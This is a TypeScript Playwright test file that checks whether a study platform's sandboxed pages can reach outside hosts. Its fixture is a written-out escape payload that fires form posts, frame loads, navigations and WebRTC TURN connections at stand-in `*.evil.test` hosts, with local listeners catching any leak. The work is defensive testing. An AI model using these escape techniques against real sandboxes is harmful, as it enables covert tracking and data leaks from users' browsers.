import { createSocket } from 'node:dgram';
import { createServer, type RequestListener, type Server } from 'node:http';
import { createServer as createTcp, type AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { eventually } from '../../support/wait';
import { callApi, signInByApi } from '../support/api';
import { useBrowser } from '../support/browser';
import { demoAccounts } from '../support/product';
import { atTheDoor, begin, recruitFor } from '../support/running-here';

/** Names of `*.evil.test` that a browser has connected to: TLS says them in the clear. */
const asked = new Set<string>();
/** How many packets came for which participant of WebRTC, by the ports that they were told. */
const packets = { study: 0, control: 0 };
const ports = { study: 0, control: 0 };
const resolver: string[] = [];

const tcp = createTcp((socket) => {
  socket.on('error', () => undefined);
  socket.on('data', (data) => {
    for (const [name] of data.toString('latin1').matchAll(/[a-z0-9-]+\.evil\.test/g))
      asked.add(name);
  });
});
const udp = { study: createSocket('udp4'), control: createSocket('udp4') };
const listening = (server: Server | typeof tcp) =>
  new Promise<number>((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)),
  );

beforeAll(async () => {
  resolver.push(`--host-resolver-rules=MAP *.evil.test 127.0.0.1:${await listening(tcp)}`);
  for (const who of ['study', 'control'] as const) {
    udp[who].on('message', () => void (packets[who] += 1));
    await new Promise<void>((resolve) => udp[who].bind(0, '127.0.0.1', resolve));
    ports[who] = udp[who].address().port;
  }
});
afterAll(async () => {
  udp.study.close();
  udp.control.close();
  await new Promise((resolve) => tcp.close(resolve));
});
// After the port is known: it is an argument of this file's Chromium.
const browser = useBrowser(resolver);

/** Both ways out of A5: navigations that the policy refuses, and WebRTC within frames of its own. */
const escaping = (who: keyof typeof ports) => `<!doctype html><html lang="en"><title>Words</title>
<iframe name="target"></iframe><script>
const to = (way) => 'https://' + way + '-${who}.evil.test/';
const frame = (set) => { const one = document.createElement('iframe'); set(one); document.body.append(one); return one; };
const connect = (of) => {
  const peer = new of.RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${ports[who]}?transport=udp', username: 'a', credential: 'b' }] });
  peer.createDataChannel('a');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
};
addEventListener('load', () => {
  const form = document.createElement('form');
  form.method = 'post'; form.target = 'target'; form.action = to('form');
  document.body.append(form);
  form.submit();
  frame((one) => { one.src = to('frame'); });
  const inner = '<script>(' + connect + ')(window)<\\/script>';
  frame((one) => { one.srcdoc = inner; });
  frame((one) => { one.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })); });
  try { connect(frame(() => undefined).contentWindow); } catch { /* of another origin */ }
  const said = document.createElement('p');
  said.textContent = 'Tried';
  document.body.append(said);
  setTimeout(() => { location.href = to('page'); }, 500);
});
</script></html>`;
const waysOf = (who: string) => ['form', 'frame', 'page'].map((way) => `${way}-${who}.evil.test`);

/** The same page without our headers' list of connections: what comes from it shows that the listeners hear. */
async function control(page: Page): Promise<void> {
  const answer: RequestListener = (request, response) => {
    response.setHeader('Content-Type', 'text/html');
    if (request.url !== '/s/')
      return response.end('<iframe sandbox="allow-scripts allow-forms" src="/s/"></iframe>');
    const policy = "default-src 'unsafe-inline' blob:; form-action 'none'; frame-src blob:";
    response.setHeader('Content-Security-Policy', `sandbox allow-scripts allow-forms; ${policy}`);
    response.end(escaping('control'));
  };
  const server = createServer(answer);
  const port = await listening(server);
  try {
    await page.goto(`http://127.0.0.1:${port}/`);
    await eventually(
      () => Promise.resolve([...asked, packets.control]),
      () => waysOf('control').every((name) => asked.has(name)) && packets.control > 0,
    );
  } finally {
    server.close();
    server.closeAllConnections();
  }
}

describe('A study without other hosts', () => {
  it.each([
    ['that shows no frames', false],
    ['that shows frames', true],
  ])(
    '%s opens no connection elsewhere, by refused navigations or by WebRTC',
    async (title, frames) => {
      asked.clear();
      Object.assign(packets, { study: 0, control: 0 });
      const files = { 'index.html': Buffer.from(escaping('study')) };
      const study = await recruitFor(files, `Escaping, ${title}`, { frames });
      const { page, participation } = await atTheDoor(browser, study);
      await page.goto(`/run/${participation}`);
      await begin(page);
      const refused = page.waitForEvent('console', {
        predicate: (message) => message.text().includes('page-study.evil.test'),
      });
      await page.frameLocator('iframe').first().getByText('Tried').waitFor();
      await refused;
      await control(await browser.open());
      expect([...asked].filter((name) => name.includes('-study'))).toEqual([]);
      expect(packets.study).toBe(0);
      browser.problems.splice(0);
    },
  );

  it('is told of where a browser may not close them: before it begins, and in its report', async () => {
    const files = { 'index.html': Buffer.from(escaping('study')) };
    const study = await recruitFor(files, 'Escaping, as it is told');
    const { page, participation } = await atTheDoor(browser, study);
    await page.goto(`/run/${participation}`);
    const sentence =
      'It is meant to exchange data with this site only. Its code could still tell another server that you are here.';
    await page.getByText(sentence).waitFor();
    expect(await page.getByText('It exchanges data with this site only.').count()).toBe(0);
    const { token } = await signInByApi(demoAccounts.researcher);
    const at = `/api/studies/${study.study_id}/versions/`;
    const { items } = await callApi<{ items: { _id: string }[] }>('GET', at, { token });
    const { report } = await callApi<{ report: { asks: string[]; frames: boolean } }>(
      'GET',
      `${at}${items[0]?._id}/report/`,
      { token },
    );
    expect(report).toMatchObject({ asks: ['peer_connection', 'computed_address'], frames: true });
  });
});
